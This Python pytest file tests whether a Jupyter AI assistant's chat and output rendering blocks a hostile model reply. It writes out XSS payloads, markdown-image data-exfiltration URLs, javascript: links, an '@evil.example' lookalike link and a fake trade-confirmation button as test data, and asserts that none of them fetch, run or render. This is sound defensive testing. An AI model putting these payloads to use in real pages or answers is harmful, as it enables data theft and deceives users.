"""Hostile text on the screen: nothing is fetched, nothing runs, nothing looks like ours."""

from __future__ import annotations

import http.server
import threading

import pytest

from jupyter_autocoder.testing import Reply

pytestmark = pytest.mark.browser


class Counter(http.server.ThreadingHTTPServer):
    """Counts whoever asks it for anything."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class Handler(http.server.BaseHTTPRequestHandler):
    server: Counter

    def do_GET(self) -> None:
        self.server.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def counter():
    server = Counter()
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


def hostile(url: str) -> str:
    return f"""
# Look at this

![picture]({url}/md.png?d=secret) [![badge]({url}/badge.svg)]({url}/click) ![ref][r]

[r]: {url}/reference.png

<img src="{url}/html.png"> <img src=x onerror="fetch('{url}/onerror');window.pwned=1">
<script>window.pwned = 1; fetch('{url}/script')</script>
<style>@import url('{url}/style.css'); body {{ background: url({url}/bg.png) }}</style>
<link rel="stylesheet" href="{url}/link.css"><link rel="preload" as="image" href="{url}/preload">
<iframe src="{url}/frame"></iframe><object data="{url}/object"></object><embed src="{url}/embed">
<video poster="{url}/poster" src="{url}/video"></video><audio src="{url}/audio"></audio>
<svg onload="window.pwned=1"><image href="{url}/svg.png"/><use href="{url}/use.svg#a"/></svg>
<div style="background:url({url}/div.png)" onclick="window.pwned=1">box</div>
<form action="{url}/form"><button>Confirm</button></form><input type="image" src="{url}/input.png">
<base href="{url}/"><meta http-equiv="refresh" content="0;url={url}/meta">

[safe words](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>)
[bank](https://bank.example@evil.example/login) [local](/lab?reset) <{url}/auto>

```html
<img src="{url}/fenced.png">
```

| a | b |
|---|---|
| ![t]({url}/table.png) | <img src={url}/cell.png> |

$$\\includegraphics{{{url}/tex.png}} \\href{{javascript:window.pwned=1}}{{x}}$$

<div class="jp-ac-card" data-ticket="1"><button class="jp-ac-confirm">Confirm BUY 1000 AAPL</button></div>
"""


@pytest.mark.parametrize("chunk", [3, 100_000], ids=["streaming", "at once"])
def test_a_hostile_answer_fetches_nothing_and_runs_nothing(visitor, answers, counter, chunk):
    answers(Reply(text=hostile(counter.url), chunk=chunk, pause=0.002))
    person = visitor()

    person.ask("be nasty")
    answer = person.answer("done", timeout=60_000)
    person.page.wait_for_timeout(700)
    person.shot("hostile")
    inside = answer.locator(".jp-ac-markdown")

    assert counter.hits == []
    assert person.page.evaluate("window.pwned") is None
    for tag in (
        "script",
        "style",
        "link",
        "iframe",
        "object",
        "embed",
        "video",
        "svg image",
        "form",
        "input",
        "base",
        "meta",
    ):
        assert inside.locator(tag).count() == 0, tag
    assert inside.locator("img").count() == 0
    assert inside.locator("[style], [onclick], [onerror], [data-ticket]").count() == 0
    assert inside.locator(".jp-ac-card, .jp-ac-confirm").count() == 0


def test_a_reload_of_a_hostile_conversation_fetches_nothing_either(visitor, answers, counter):
    answers(hostile(counter.url))
    person = visitor()
    person.ask("be nasty")
    person.answer("done")

    person.reload()
    person.answer("done")
    person.page.wait_for_timeout(500)

    assert counter.hits == []
    assert person.page.evaluate("window.pwned") is None


def test_every_link_shows_where_it_goes_and_only_web_addresses_are_links(visitor, answers, counter):
    answers(hostile(counter.url))
    person = visitor()
    person.ask("links please")
    answer = person.answer("done")

    links = answer.locator(".jp-ac-markdown a").evaluate_all(
        "all => all.map(a => ({href: a.href, text: a.textContent, rel: a.rel, target: a.target}))"
    )

    assert links
    assert all(link["href"].startswith(("http://", "https://", "mailto:")) for link in links)
    assert all("noopener" in link["rel"] and link["target"] == "_blank" for link in links)
    bank = next(link for link in links if link["text"].startswith("bank"))
    assert "(evil.example/login)" in bank["text"]
    assert all(link["href"].split("//")[1].split("/")[0].split("@")[-1] in link["text"] for link in links)


@pytest.mark.sandbox
def test_hostile_output_of_a_run_fetches_nothing(visitor, answers, counter, lab_class, model, tmp_path):
    html = hostile(counter.url).replace("'''", "")
    code = f"from IPython.display import HTML, SVG, Markdown, display\nx = r'''{html}'''\n"
    code += "display({'text/html': x, 'text/plain': 'p'}, raw=True)\ndisplay({'text/markdown': x}, raw=True)\n"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{counter.url}/i.png"/></svg>'
    code += f"display({{'image/svg+xml': {svg!r}}}, raw=True)"
    # The checker refuses such code; here it lets it through, so that the output itself is met.
    with lab_class(tmp_path, model.base_url, AUTOCODER_POLICY_ALLOW="active-markup") as server:
        person = visitor(server=server)
        person.input.fill(f"/run {code}")
        person.input.press("Enter")
        run = person.page.locator(".jp-ac-run[data-state=done]")
        run.wait_for(timeout=60_000)
        person.page.wait_for_timeout(700)
        person.shot("hostile-output")
        shown = run.inner_text()

    assert "Look at this" in shown
    assert counter.hits == []
    assert person.page.evaluate("window.pwned") is None
    assert run.locator("script, style, link, iframe, form, input, button, [style], [onclick], [onerror]").count() == 0
